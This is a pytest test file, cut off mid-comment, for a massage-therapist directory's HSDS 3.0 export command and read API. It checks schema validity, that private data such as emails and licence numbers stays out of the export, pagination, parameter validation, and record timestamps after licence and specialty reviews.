"""The Open Referral HSDS 3.0 export and read API (issue 15, item 5): what `export hsds` writes
validates against the vendored official schemas (JSON) and descriptor (CSV, with
frictionless), holds exactly the public directory, and keeps its ids; /hsds/ answers with the
specification's Page wrapper and the same records."""

import csv
import hashlib
import json
import re
import uuid
from contextlib import contextmanager
from datetime import UTC, date, datetime, timedelta

import pytest
from frictionless import validate
from openapi_spec_validator import validate as validate_openapi
from sqlalchemy import event, select, update

from directory import csvfile, licensing
from directory.admin import operations as admin
from directory.db import db
from directory.hsds import export, reads, records, views
from directory.practices.models import Tenant
from directory.practitioners.models import License, Practitioner, Specialty
from tests import hsds_check
from tests.conftest import add_practitioner, module_world, tag
from tests.people import new_user

PUBLIC_URL = "https://kneaded.example"


def _build() -> dict:
    hand = Tenant(slug="open-hand", name="Open Hand", kind="clinic",
                  description="A clinic for back pain in Hoboken.",
                  website="https://openhand.example")  # fmt: skip
    calm = Tenant(slug="calm-spa", name="Calm Spa", kind="spa")
    gone = Tenant(slug="gone-spa", name="Gone Spa", status="deleted")
    quiet = Tenant(slug="quiet-practice", name="Quiet Practice")
    nj = [("NJ", "verified", None)]
    vera = add_practitioner("vera-visible", tenant=hand, licenses=nj, offices=["07030"],
                            credentials="LMT", contact_email="vera.private@example.com",
                            headline="Medical massage for sciatica")  # fmt: skip
    tag(vera, conditions=["sciatica"], modalities=["deep-tissue-massage"])
    vera.licenses.append(License(state="NY", number="913577", status="rejected",
                                 expires_on=date.today() + timedelta(days=300)))  # fmt: skip
    vera.licenses[0].reviewed_at = datetime(2026, 11, 2, 15, 0, tzinfo=UTC)
    # Only Vera's verified, current CLT certificate is a specialty of the export.
    vera.specialties += [
        Specialty(kind="clt", issuer="Klose Training", number="K-77031", status="verified",
                  expires_on=date.today() + timedelta(days=700), document="clt-doc.pdf"),
        Specialty(kind="prenatal", issuer="Refused Prenatal School", number="P-77032",
                  status="rejected"),
    ]  # fmt: skip
    viv = add_practitioner("viv-visible", tenant=hand, licenses=[("NJ", "pending", None)],
                           offices=["07030"], setting="both", show_email=True,
                           contact_email="viv@example.com", phone="(201) 555-0100",
                           languages=["Spanish", "English", "spanish"], in_home=True,
                           accepting_new_clients=False,
                           price_min=90, price_max=140, session_lengths=[60, 90])  # fmt: skip
    tag(viv, conditions=["lower-back-pain"], modalities=["swedish-massage"])
    viv.specialties.append(Specialty(kind="oncology", issuer="Unchecked Oncology Course",
                                     number="O-77033"))  # fmt: skip
    yesterday = date.today() - timedelta(days=1)
    cal = add_practitioner(
        "cal-calm",
        tenant=calm,
        setting="spa",
        offices=["33139", "10001"],
        licenses=[("FL", "verified", None), ("NY", "verified", yesterday)],
    )
    tag(cal, modalities=["hot-stone-massage"])
    cal.specialties.append(Specialty(kind="sports", issuer="Lapsed Sports Institute",
                                     number="S-77034", status="verified",
                                     expires_on=yesterday))  # fmt: skip
    add_practitioner("una-unpublished", tenant=hand, licenses=nj, offices=["07030"],
                     published=False)  # fmt: skip
    add_practitioner("sam-suspended", tenant=hand, licenses=nj, offices=["07030"],
                     suspended=True, suspended_reason="complaint")  # fmt: skip
    add_practitioner("dee-deleted", tenant=gone, licenses=nj, offices=["07030"])
    add_practitioner("quinn-quiet", tenant=quiet, licenses=nj, offices=["07030"], published=False)
    db.session.commit()
    return {
        slug: str(p.public_id)
        for slug, p in ((p.slug, p) for p in db.session.scalars(select(Practitioner)))
    } | {t.slug: str(t.public_id) for t in db.session.scalars(select(Tenant))}


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hsds")
    with module_world(folder, _build, PUBLIC_URL=PUBLIC_URL) as (app, ids):
        out = folder / "export"
        result = app.test_cli_runner().invoke(args=["export", "hsds", str(out)])
        assert result.exit_code == 0, result.output
        yield app, ids, out, result


def _read(out, name: str) -> list[dict]:
    return json.loads((out / f"{name}.json").read_text(encoding="utf-8"))


def _rows(out, resource: str) -> list[dict]:
    path, _ = export.columns()[resource]
    with (out / "csv" / path).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# The files, against the official schemas.


def test_the_command_writes_every_file_and_says_what_it_wrote(world):
    _, _, out, result = world
    assert (
        "Exported 2 organization(s) (practices), 3 service(s) and 2 location(s) as HSDS 3.0"
        in result.output
    )
    assert f"Links are on PUBLIC_URL, {PUBLIC_URL}." in result.output
    assert "2 of 2 practices" in result.output  # progress
    for name in export.JSON_FILES:
        assert (out / f"{name}.json").is_file()
    written = sorted(p.name for p in (out / "csv").iterdir())
    assert written == sorted([path for path, _ in export.columns().values()] + ["datapackage.json"])
    assert not list(out.rglob(".*.partial"))


@pytest.mark.parametrize(
    ("name", "schema"),
    [
        ("organizations", "compiled/organization"),
        ("services", "compiled/service"),
        ("service_at_locations", "compiled/service_at_location"),
    ],
)
def test_every_record_validates_against_the_official_compiled_schema(world, name, schema):
    _, _, out, _ = world
    items = _read(out, name)
    assert items
    for item in items:
        assert hsds_check.errors(schema, item) == [], item["id"]


def test_the_json_check_can_fail():
    service = {"id": str(uuid.uuid4()), "name": "Massage", "status": "active"}
    assert hsds_check.errors("compiled/service", service) == []
    assert hsds_check.errors("compiled/service", {**service, "headline": "x"})  # not HSDS
    assert hsds_check.errors("compiled/service", {**service, "id": "alexa-marie"})  # uuid
    assert hsds_check.errors("compiled/service", {**service, "url": "not a uri"})
    assert hsds_check.errors("compiled/service", {**service, "last_modified": "yesterday"})
    assert hsds_check.errors("compiled/service", {**service, "status": "open"})
    assert hsds_check.errors("compiled/service", {"id": service["id"]})  # name, status


def test_the_tabular_package_is_the_official_descriptor_and_validates(world):
    _, _, out, _ = world
    written = json.loads((out / "csv" / "datapackage.json").read_text())
    assert written["resources"] == hsds_check.load("datapackage")["resources"]
    report = validate(str(out / "csv" / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])[:5]
    assert len(_rows(out, "service")) == 3
    assert len(_rows(out, "taxonomy_term")) == len(records.terms())


def test_the_tabular_check_can_fail(world, tmp_path):
    _, _, out, _ = world
    broken = tmp_path / "csv"
    broken.mkdir()
    for source in (out / "csv").iterdir():
        (broken / source.name).write_bytes(source.read_bytes())
    with (broken / "services.csv").open("a", encoding="utf-8", newline="") as handle:
        row = dict.fromkeys(export.columns()["service"][1], "")
        row |= {"id": str(uuid.uuid4()), "organization_id": str(uuid.uuid4()),
                "name": "Orphan", "status": "active"}  # fmt: skip
        csv.DictWriter(handle, fieldnames=list(row)).writerow(row)
    report = validate(str(broken / "datapackage.json"))
    assert not report.valid
    assert "foreign-key" in {e[0] for e in report.flatten(["type"])}


def test_the_vendored_files_are_upstreams_unchanged():
    readme = (hsds_check.VENDORED / "README.md").read_text()
    listed = re.findall(r"^([0-9a-f]{64})  (\S+)$", readme, flags=re.M)
    assert len(listed) == 12
    for digest, name in listed:
        path = hsds_check.VENDORED / name
        if name.startswith("compiled/"):
            import gzip

            data = gzip.decompress(path.with_suffix(".json.gz").read_bytes())
        else:
            data = path.read_bytes()
        assert hashlib.sha256(data).hexdigest() == digest, name


# What the records say.


def test_only_the_public_directory_is_exported(world):
    _, ids, out, _ = world
    services = {s["id"] for s in _read(out, "services")}
    assert services == {ids["vera-visible"], ids["viv-visible"], ids["cal-calm"]}
    organizations = {o["id"] for o in _read(out, "organizations")}
    # Gone Spa is deleted; Quiet Practice has no public profile.
    assert organizations == {ids["open-hand"], ids["calm-spa"]}
    everything = "".join(p.read_text() for p in out.rglob("*") if p.is_file())
    for hidden in ("una-unpublished", "Una Unpublished", "sam-suspended", "dee-deleted",
                   "Gone Spa", "quinn-quiet", "Quiet Practice", ids["una-unpublished"],
                   "vera.private@example.com", "913577",
                   # Certificates: never a number or a document; only verified, current ones.
                   "K-77031", "P-77032", "O-77033", "S-77034", "clt-doc.pdf",
                   "Refused Prenatal School", "Unchecked Oncology Course",
                   "Lapsed Sports Institute"):  # fmt: skip
        assert hidden not in everything, hidden


def _service(out, ids, slug) -> dict:
    return next(s for s in _read(out, "services") if s["id"] == ids[slug])


def _terms(service: dict, key: str) -> dict:
    return {
        a["taxonomy_term"]["code"]: a.get("value")
        for a in service["attributes"]
        if a["link_type"] == key
    }


def test_a_service_carries_setting_needs_and_licenses_honestly(world):
    _, ids, out, _ = world
    vera = _service(out, ids, "vera-visible")
    assert vera["name"] == "Medical massage with Vera Visible, LMT"
    assert vera["organization"]["name"] == "Open Hand"
    assert vera["url"] == f"{PUBLIC_URL}/p/vera-visible"
    assert _terms(vera, "setting") == {"medical": None}
    assert _terms(vera, "condition") == {"sciatica": None}
    assert _terms(vera, "modality") == {"deep-tissue-massage": None}
    # The rejected New York license is said, without its number.
    assert _terms(vera, "license") == {"NJ-verified": "18KT01515000", "NY-rejected": None}
    assert "not confirmed by the board" in vera["licenses"]
    assert vera["assured_date"] == "2026-11-02"  # the last license review
    # A verified, current certificate: a term of our specialty taxonomy, valued by its issuer,
    # and said after the therapist's own credentials line.
    assert _terms(vera, "specialty") == {"specialty-clt": "Klose Training"}
    assert vera["accreditations"] == (
        "LMT. Verified by the directory: Certified lymphedema therapist (CLT) from Klose Training."
    )
    assert "email" not in vera and "email" not in vera["contacts"][0]  # not opted in
    assert vera["contacts"][0]["name"] == "Vera Visible"
    [link] = vera["service_at_locations"]
    assert link["description"].endswith("New Jersey license is verified by the directory.")

    viv = _service(out, ids, "viv-visible")
    assert _terms(viv, "setting") == {"medical": None, "spa": None}
    assert _terms(viv, "license") == {"NJ-pending": "18KT01515000"}
    assert set(_terms(viv, "detail")) == {"in-home"}  # not accepting new clients
    assert viv["alert"] == "Not accepting new clients."
    assert viv["email"] == viv["contacts"][0]["email"] == "viv@example.com"  # opted in
    assert viv["phones"][0]["number"] == "(201) 555-0100"
    assert {(x["name"], x.get("code")) for x in viv["languages"]} == {
        ("English", "en"), ("Spanish", "es"),
    }  # fmt: skip
    assert viv["fees_description"] == "$90 to $140 a session. Sessions of 60 or 90 minutes."
    assert "not yet verified" in viv["service_at_locations"][0]["description"]
    assert "assured_date" not in viv  # never reviewed
    # A pending, a rejected and an expired certificate are not a specialty of the record.
    assert _terms(viv, "specialty") == {} and "accreditations" not in viv
    assert _terms(_service(out, ids, "cal-calm"), "specialty") == {}


def test_locations_are_listed_offices_shared_by_address(world):
    _, ids, out, _ = world
    hand = next(o for o in _read(out, "organizations") if o["id"] == ids["open-hand"])
    [place] = hand["locations"]  # Vera and Viv work at the same address
    assert place["addresses"][0] == {
        "id": place["addresses"][0]["id"], "location_id": place["id"], "address_1": "1 Main St",
        "city": "Hoboken", "state_province": "NJ", "postal_code": "07030", "country": "US",
        "address_type": "physical",
    }  # fmt: skip
    assert {s["id"] for s in hand["services"]} == {ids["vera-visible"], ids["viv-visible"]}
    assert hand["description"] == "A clinic for back pain in Hoboken."
    assert hand["website"] == "https://openhand.example"
    assert [a["taxonomy_term"]["name"] for a in hand["attributes"]] == ["Clinic"]
    links = [x for x in _read(out, "service_at_locations") if x["location_id"] == place["id"]]
    assert {x["service_id"] for x in links} == {ids["vera-visible"], ids["viv-visible"]}
    # Cal's New York license expired yesterday: only the Florida office is a location.
    cal = _service(out, ids, "cal-calm")
    assert [x["location"]["addresses"][0]["state_province"]
            for x in cal["service_at_locations"]] == ["FL"]  # fmt: skip
    calm = next(o for o in _read(out, "organizations") if o["id"] == ids["calm-spa"])
    assert calm["description"].startswith("Calm Spa: spa with 1 massage therapist")


def test_a_second_export_is_identical_and_a_failed_one_keeps_the_last(world, monkeypatch, tmp_path):
    app, _, out, _ = world
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    again = tmp_path / "again"
    assert app.test_cli_runner().invoke(args=["export", "hsds", str(again)]).exit_code == 0
    assert {p.relative_to(again): p.read_bytes() for p in again.rglob("*") if p.is_file()} == before

    calls = []

    def failing(tenant, practitioners, on=None):
        calls.append(tenant.slug)
        if len(calls) > 1:
            raise RuntimeError("disk full")
        return original(tenant, practitioners, on)

    original = records.practice
    monkeypatch.setattr(records, "practice", failing)
    result = app.test_cli_runner().invoke(args=["export", "hsds", str(out)])
    assert result.exit_code != 0 and len(calls) == 2
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


def test_an_unwritable_folder_is_said_plainly(world, tmp_path):
    app, _, _, _ = world
    taken = tmp_path / "taken"
    taken.write_text("a file, not a folder")
    result = app.test_cli_runner().invoke(args=["export", "hsds", str(taken / "out")])
    assert result.exit_code == 1
    assert f"Cannot write the export to {taken / 'out'}" in result.output
    assert "Traceback" not in result.output


def test_taxonomy_terms_have_unique_codes_and_validate():
    terms = records.terms()
    assert len({t["code"] for t in terms.values()}) == len(terms)
    assert terms[("license", "NJ-verified")]["parent_id"] == terms[("license", "NJ")]["id"]
    for term in terms.values():
        assert hsds_check.errors("taxonomy_term", term) == []
    for t in records.taxonomies():
        assert hsds_check.errors("taxonomy", t) == []


# The read API.


@contextmanager
def _sent(app):
    """Every statement sent to the database inside the block, in an app context."""
    sent = []

    def record(_conn, _cursor, statement, *_args):
        sent.append(statement)

    with app.app_context():
        event.listen(db.engine, "before_cursor_execute", record)
        try:
            yield sent
        finally:
            event.remove(db.engine, "before_cursor_execute", record)


def _get(client, path: str, status: int = 200) -> dict:
    response = client.get(path)
    assert response.status_code == status, (path, response.get_data(as_text=True)[:300])
    return response.get_json()


def test_the_api_answers_with_pages_of_the_same_records(world):
    app, ids, out, _ = world
    client = app.test_client()
    about = _get(client, "/hsds/")
    assert about["version"] == "3.0"
    assert about["openapi_url"] == f"{PUBLIC_URL}/hsds/openapi.json"

    page = _get(client, "/hsds/services")
    assert hsds_check.page_errors(page, "compiled/service_list") == []
    assert (page["total_items"], page["size"], page["empty"]) == (3, 3, False)
    assert "attributes" not in page["contents"][0]  # one-to-one fields only
    full = _get(client, "/hsds/services?full=true")
    assert hsds_check.page_errors(full, "compiled/service") == []
    exported = {s["id"]: s for s in _read(out, "services")}
    assert {s["id"]: s for s in full["contents"]} == exported

    one = _get(client, f"/hsds/services/{ids['vera-visible']}")
    assert hsds_check.errors("compiled/service", one) == []
    assert one == exported[ids["vera-visible"]]

    orgs = _get(client, "/hsds/organizations")
    assert hsds_check.page_errors(orgs, "compiled/organization_list") == []
    assert {o["id"] for o in orgs["contents"]} == {ids["open-hand"], ids["calm-spa"]}
    hand = _get(client, f"/hsds/organizations/{ids['open-hand']}")
    assert hsds_check.errors("compiled/organization", hand) == []
    assert "attributes" not in hand["services"][0]  # brief services unless full_service
    whole = _get(client, f"/hsds/organizations/{ids['open-hand']}?full_service=true")
    assert whole == next(o for o in _read(out, "organizations") if o["id"] == ids["open-hand"])
    nested = _get(client, "/hsds/organizations?full=true&full_service=true")
    assert hsds_check.page_errors(nested, "compiled/organization") == []

    taxonomies = _get(client, "/hsds/taxonomies")
    assert hsds_check.page_errors(taxonomies, "taxonomy") == []
    terms = _get(client, "/hsds/taxonomy_terms?per_page=100")
    assert hsds_check.page_errors(terms, "taxonomy_term") == []
    assert terms["total_items"] == len(records.terms())
    term = terms["contents"][0]
    assert _get(client, f"/hsds/taxonomy_terms/{term['id']}") == term
    assert _get(client, f"/hsds/taxonomies/{term['taxonomy_id']}")["name"] == "Massage setting"


def _ids(client, query: str) -> set[str]:
    """The services a filter selects (a page holds them all): its count says as many."""
    page = _get(client, f"/hsds/services?{query}")
    found = {s["id"] for s in page["contents"]}
    assert page["total_items"] == len(found), query
    return found


def _walked(client, path: str) -> tuple[set[int], list[str]]:
    """(every total_items its pages said, the ids they held): `path` a page at a time."""
    totals, seen, number = set(), [], 1
    while True:
        page = _get(client, f"{path}{'&' if '?' in path else '?'}per_page=1&page={number}")
        totals.add(page["total_items"])
        seen += [item["id"] for item in page["contents"]]
        if page["last_page"]:
            return totals, seen
        number += 1


def test_a_page_that_is_not_full_is_not_counted_again(world):
    app, ids, _, _ = world
    client = app.test_client()
    with _sent(app) as sent:
        short = _get(client, f"/hsds/services?organization_id={ids['open-hand']}")
        sent_short = [s for s in sent if s.startswith("SELECT count(*)")]
        sent.clear()
        full = _get(client, f"/hsds/services?per_page=1&organization_id={ids['open-hand']}")
        sent_full = [s for s in sent if s.startswith("SELECT count(*)")]
    assert (short["total_items"], short["size"], sent_short) == (2, 2, [])
    assert (full["total_items"], full["size"], len(sent_full)) == (2, 1, 1)


def _counted_services(statements: list[str]) -> list[str]:
    return [s for s in statements if s.startswith("SELECT count(*)") and "practitioner" in s]


def test_the_whole_list_is_counted_once_until_what_is_public_changes(world):
    app, _ids, _, _ = world
    client = app.test_client()
    with _sent(app) as sent:
        first = _get(client, "/hsds/services?per_page=1")["total_items"]
        sent.clear()
        again = _get(client, "/hsds/services?per_page=1&page=2")["total_items"]
        assert (first, again, _counted_services(sent)) == (3, 3, [])
        una = db.session.scalar(select(Practitioner).filter_by(slug="una-unpublished"))
        una.published = True
        db.session.commit()
        try:
            sent.clear()
            published = _get(client, "/hsds/services?per_page=1")["total_items"]
            assert (published, len(_counted_services(sent))) == (4, 1)
        finally:
            una.published = False
            db.session.commit()
        assert _get(client, "/hsds/services?per_page=1")["total_items"] == 3


def test_each_count_is_what_its_pages_hold(world):
    app, ids, _, _ = world
    client = app.test_client()
    terms = records.terms()
    for path in (
        "/hsds/services",
        f"/hsds/services?organization_id={ids['open-hand']}",
        f"/hsds/services?taxonomy_term_id={terms[('setting', 'spa')]['id']}",
        f"/hsds/services?taxonomy_term_id={terms[('license', 'NJ')]['id']}",
        f"/hsds/services?taxonomy_id={records.taxonomy('condition')['id']}",
        "/hsds/services?modified_after=2000-01-01",
        "/hsds/organizations",
        "/hsds/organizations?search=hand",
    ):
        totals, seen = _walked(client, path)
        assert totals == {len(seen)} and len(set(seen)) == len(seen) > 0, path


def test_the_api_filters_and_pages(world):
    app, ids, _, _ = world
    client = app.test_client()
    vera, viv, cal = ids["vera-visible"], ids["viv-visible"], ids["cal-calm"]
    terms = records.terms()
    assert _ids(client, f"organization_id={ids['open-hand']}") == {vera, viv}
    assert _ids(client, f"taxonomy_term_id={terms[('condition', 'sciatica')]['id']}") == {vera}
    assert _ids(client, f"taxonomy_term_id={terms[('setting', 'spa')]['id']}") == {viv, cal}
    assert _ids(client, f"taxonomy_term_id={terms[('license', 'NY-rejected')]['id']}") == {vera}
    assert _ids(client, f"taxonomy_term_id={terms[('license', 'NY-expired')]['id']}") == {cal}
    assert _ids(client, f"taxonomy_term_id={terms[('license', 'NJ-verified')]['id']}") == {vera}
    assert _ids(client, f"taxonomy_term_id={terms[('license', 'NJ')]['id']}") == {vera, viv}
    assert _ids(client, f"taxonomy_term_id={terms[('detail', 'in-home')]['id']}") == {viv}
    for kind, holders in (("clt", {vera}), ("sports", set()), ("oncology", set())):
        term = terms[("specialty", records.specialty_code(kind))]["id"]
        assert _ids(client, f"taxonomy_term_id={term}") == holders, kind
    assert _ids(client, f"taxonomy_id={records.taxonomy('specialty')['id']}") == {vera}
    kind = terms[("practice_kind", "kind-spa")]["id"]
    assert _ids(client, f"taxonomy_term_id={kind}") == {cal}
    assert _ids(client, f"taxonomy_id={records.taxonomy('condition')['id']}") == {vera, viv}
    assert _ids(client, "modified_after=2999-01-01") == set()
    assert _ids(client, "modified_after=2000-01-01T00:00:00Z") == {vera, viv, cal}
    assert _ids(client, "search=sciatica") == {vera}
    assert _ids(client, "search=Sciatica++near+nothing") <= {vera}

    names = lambda q: {o["name"] for o in _get(client, f"/hsds/organizations?{q}")["contents"]}  # noqa: E731
    assert names("search=open") == {"Open Hand"}
    assert names("search=%25") == set()  # a literal %, not a wildcard
    assert names("search=gone") == set()  # deleted

    terms_page = lambda q: _get(client, f"/hsds/taxonomy_terms?per_page=100&{q}")  # noqa: E731
    top = terms_page(f"top_only=true&taxonomy_id={records.taxonomy('license')['id']}")
    assert top["total_items"] == len(licensing.states())
    assert all("parent_id" not in t for t in top["contents"])
    children = terms_page(f"parent_id={terms[('license', 'NJ')]['id']}")["contents"]
    assert sorted(t["code"] for t in children) == sorted(
        f"NJ-{status}" for status in records.LICENSE_STATUS_TERMS
    )

    first = _get(client, "/hsds/services?per_page=2")
    second = _get(client, "/hsds/services?per_page=2&page=2")
    assert (first["total_pages"], first["first_page"], first["last_page"]) == (2, True, False)
    assert (second["size"], second["last_page"]) == (1, True)
    assert {s["id"] for s in first["contents"] + second["contents"]} == {vera, viv, cal}
    empty = _get(client, "/hsds/services?page=9")
    assert (empty["size"], empty["empty"], empty["contents"]) == (0, False, [])


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("page=0", "page"),
        ("per_page=101", "per_page"),
        ("organization_id=open-hand", "organization_id"),
        ("taxonomy_term_id=sciatica", "taxonomy_term_id"),
        ("organisation_id=x", "organisation_id"),  # not a parameter: never silently ignored
        ("minimal=true", "minimal"),  # the specification's, not answered here
        ("modified_after=last+week", "modified_after"),
        ("full=maybe", "full"),
        ("format=ndjson", "format"),
        ("modified_after=0001-01-01T00:00:00%2B14:00", "modified_after"),
        ("search=back%00pain", "search"),
        ("search=sciatica&modified_after=2000-01-01", "modified_after"),
    ],
)
def test_the_api_refuses_what_it_cannot_answer(world, query, field):
    app, _, _, _ = world
    error = _get(app.test_client(), f"/hsds/services?{query}", 400)["error"]
    assert (error["code"], error["field"]) == ("invalid_parameter", field)


def test_each_path_takes_only_its_own_parameters(world):
    app, ids, _, _ = world
    client = app.test_client()
    checks = [
        (f"/hsds/services/{ids['vera-visible']}?full=true", "full"),
        ("/hsds/organizations?taxonomy_term_id=x", "taxonomy_term_id"),
        ("/hsds/organizations?modified_after=2026-01-01", "modified_after"),
        ("/hsds/taxonomy_terms?parent_id=abc", "parent_id"),  # malformed
        ("/hsds/?page=1", "page"),
    ]
    for path, name in checks:
        assert _get(client, path, 400)["error"]["field"] == name, path
    # An id nothing has is a filter that matches nothing, as for an unknown organization.
    for query in (f"taxonomy_term_id={uuid.UUID(int=1)}", f"taxonomy_id={uuid.UUID(int=1)}",
                  f"organization_id={uuid.UUID(int=1)}"):  # fmt: skip
        assert _get(client, f"/hsds/services?{query}")["total_items"] == 0
    assert _get(client, f"/hsds/taxonomy_terms?parent_id={uuid.UUID(int=1)}")["empty"] is True


def test_terms_are_found_by_any_of_their_names_and_the_api_is_open_to_any_origin(world):
    app, _, _, _ = world
    client = app.test_client()
    found = _get(client, "/hsds/taxonomy_terms?search=slipped+disc")["contents"]
    assert [t["code"] for t in found] == ["herniated-disc"]
    found = _get(client, "/hsds/taxonomy_terms?search=CLT")["contents"]
    assert [t["code"] for t in found] == ["specialty-clt"]
    response = client.get("/hsds/services")
    assert response.headers["Access-Control-Allow-Origin"] == "*"


def test_organizations_per_page_is_capped_when_fully_nested(world):
    app, _, _, _ = world
    client = app.test_client()
    error = _get(client, "/hsds/organizations?full=true&per_page=21", 400)["error"]
    assert error["field"] == "per_page"
    _get(client, "/hsds/organizations?full=true&per_page=20")


def test_nested_organizations_load_in_a_few_queries_however_many(world):
    app, _, _, _ = world
    client = app.test_client()
    with _sent(app) as seen:
        for per_page in (1, 2):
            seen.clear()
            _get(client, f"/hsds/organizations?full=true&full_service=true&per_page={per_page}")
            if per_page == 1:
                one = len(seen)
    assert len(seen) == one  # two practices take no more queries than one


def test_hidden_records_are_404_in_json(world):
    app, ids, _, _ = world
    client = app.test_client()
    for slug in ("una-unpublished", "sam-suspended", "dee-deleted"):
        error = _get(client, f"/hsds/services/{ids[slug]}", 404)["error"]
        assert error == {"code": "not_found", "message": "No public service has this id."}
    for slug in ("gone-spa", "quiet-practice"):
        _get(client, f"/hsds/organizations/{ids[slug]}", 404)
    _get(client, f"/hsds/services/{uuid.uuid4()}", 404)
    _get(client, "/hsds/services/" + "x" * 36, 404)
    _get(client, f"/hsds/taxonomy_terms/{uuid.uuid4()}", 404)


def test_the_api_document_is_the_specifications_for_our_paths(world):
    app, _, _, _ = world
    document = _get(app.test_client(), "/hsds/openapi.json")
    # Its answers' schemas are the specification's own, by their published URLs: each is one
    # of the vendored schemas the tests validate with; offline, the document is checked
    # without fetching them.
    remote = "https://raw.githubusercontent.com/openreferral/specification/3.0/schema/"
    text = json.dumps(document)
    names = set(re.findall(re.escape(remote) + r'([\w/]+)\.json"', text))
    assert {"compiled/service", "compiled/service_list", "compiled/organization"} <= names
    for name in names:
        assert hsds_check.load(name)
    validate_openapi(json.loads(re.sub(r'\{"\$ref": "' + re.escape(remote) + r'[^"]+"\}',
                                       '{"type": "object"}', text)))  # fmt: skip
    assert document["servers"] == [{"url": f"{PUBLIC_URL}/hsds"}]
    spec = hsds_check.load("openapi")
    assert set(document["paths"]) == set(views.PATHS) <= set(spec["paths"])
    for path in views.PATHS:
        # As the specification has it, less the parameters not answered (minimal).
        served_text = json.dumps(document["paths"][path], sort_keys=True)
        spec_text = json.dumps(spec["paths"][path], sort_keys=True)
        assert served_text == spec_text or path == "/services"
    assert "parameters/minimal" in json.dumps(spec["paths"]["/services"])
    assert "parameters/minimal" not in json.dumps(document["paths"])
    assert len(document["paths"]["/services"]["get"]["parameters"]) == 9
    served = set()
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/hsds/") and rule.endpoint != "hsds.openapi_document":
            path = re.sub(r"<[^>]*:(\w+)>", "{id}", rule.rule.removeprefix("/hsds"))
            served.add(path)
    assert served == set(views.PATHS)


# When a record changed: a license decision or a license lapsing changes the service.

LONG_AGO = datetime(2020, 1, 1, tzinfo=UTC)


def _age(p: Practitioner) -> None:
    """Everything about the profile last changed on LONG_AGO."""
    for model, key in ((Practitioner, p.id), (Tenant, p.tenant_id)):
        db.session.execute(update(model).where(model.id == key).values(updated_at=LONG_AGO))
    db.session.execute(
        update(License).where(License.practitioner_id == p.id).values(updated_at=LONG_AGO)
    )
    db.session.commit()
    db.session.expire_all()


@pytest.mark.parametrize(("stride", "deep"), [(1, 2), (2, 1)])
def test_deep_pages_of_the_whole_list_are_read_by_keyset_with_the_same_rows(
    world, monkeypatch, stride, deep
):
    app, _ids, _, _ = world
    client = app.test_client()
    everything = [s["id"] for s in _get(client, "/hsds/services?per_page=100")["contents"]]
    monkeypatch.setattr(reads, "STRIDE", stride)
    app.extensions.pop("hsds.services", None)  # starts kept for another stride
    with _sent(app) as sent:
        totals, walked = _walked(client, "/hsds/services")
    app.extensions.pop("hsds.services", None)
    assert (totals, walked) == ({3}, everything)
    keyset = [s for s in sent if "FROM practitioner" in s and "practitioner.id >" in s]
    assert len(keyset) == deep  # the pages whose offset is at least the stride


def test_a_license_decision_and_a_lapse_change_the_record(app, client):
    from directory.hsds import reads

    p = add_practitioner("ana-pending", licenses=[("NJ", "pending", None)], offices=["07030"])
    expired = date.today() - timedelta(days=3)
    lapsing = add_practitioner("lou-lapsed", licenses=[("NJ", "verified", expired)])
    _age(p)
    _age(lapsing)
    lapsed = records.lapsed_at(expired)
    assert records.last_modified(lapsing) == lapsed
    assert records.last_modified(p) == LONG_AGO

    def changed_since(moment: datetime) -> set[str]:
        query = reads.Query(modified_after=moment, per_page=100)
        return {s["name"].split(" with ")[1] for s in reads.services(query)["contents"]}

    assert changed_since(LONG_AGO) == {"Ana Pending", "Lou Lapsed"}
    # With no current license anywhere, Lou is listed nowhere: the service says so.
    lou = client.get(f"/hsds/services/{lapsing.public_id}").get_json()
    assert (lou["status"], lou["service_at_locations"]) == ("inactive", [])
    assert lou["alert"].startswith("No office is listed")
    assert client.get(f"/hsds/services/{p.public_id}").get_json()["status"] == "active"
    assert changed_since(lapsed) == {"Lou Lapsed"}
    assert changed_since(lapsed + timedelta(seconds=1)) == set()
    assert changed_since(lapsed - timedelta(days=1, seconds=1)) == {"Lou Lapsed"}

    before = datetime.now(UTC) - timedelta(seconds=1)
    admin.approve(p.licenses[0], new_user("admin@example.com", is_admin=True))
    db.session.commit()
    assert changed_since(before) == {"Ana Pending"}
    record = client.get(f"/hsds/services/{p.public_id}").get_json()
    assert datetime.fromisoformat(record["last_modified"]) >= before.replace(microsecond=0)
    assert record["assured_date"] == date.today().isoformat()
    assert _terms(record, "license") == {"NJ-verified": "18KT01515000"}


def test_a_specialty_decision_and_a_lapse_change_the_record(app, client):
    from directory.hsds import reads

    p = add_practitioner("ana-pending", licenses=[("NJ", "verified", None)], offices=["07030"],
                         specialties=[("prenatal", "pending", None)])  # fmt: skip
    expired = date.today() - timedelta(days=3)
    lapsing = add_practitioner("lou-lapsed", licenses=[("NJ", "verified", None)],
                               offices=["07030"],
                               specialties=[("clt", "verified", expired)])  # fmt: skip
    p.specialties[0].document = "evidence.pdf"
    db.session.commit()
    for someone in (p, lapsing):
        _age(someone)
        db.session.execute(update(Specialty).where(Specialty.practitioner_id == someone.id)
                           .values(updated_at=LONG_AGO))  # fmt: skip
    db.session.commit()
    db.session.expire_all()
    # A verified certificate lapsing by its date changes the record (it loses the attribute).
    lapsed = records.lapsed_at(expired)
    assert records.last_modified(lapsing) == lapsed
    assert records.last_modified(p) == LONG_AGO

    def changed_since(moment: datetime) -> set[str]:
        query = reads.Query(modified_after=moment, per_page=100)
        return {s["name"].split(" with ")[1] for s in reads.services(query)["contents"]}

    assert changed_since(lapsed) == {"Lou Lapsed"}
    assert changed_since(lapsed + timedelta(seconds=1)) == set()
    lou = client.get(f"/hsds/services/{lapsing.public_id}").get_json()
    assert _terms(lou, "specialty") == {}

    before = datetime.now(UTC) - timedelta(seconds=1)
    admin.approve_specialty(p.specialties[0], new_user("admin@example.com", is_admin=True))
    db.session.commit()
    assert changed_since(before) == {"Ana Pending"}
    record = client.get(f"/hsds/services/{p.public_id}").get_json()
    assert hsds_check.errors("compiled/service", record) == []
    assert datetime.fromisoformat(record["last_modified"]) >= before.replace(microsecond=0)
    assert _terms(record, "specialty") == {"specialty-prenatal": "Klose Training"}


# Spreadsheets: text that begins like a formula (issue 23). Its `app` empties the database that
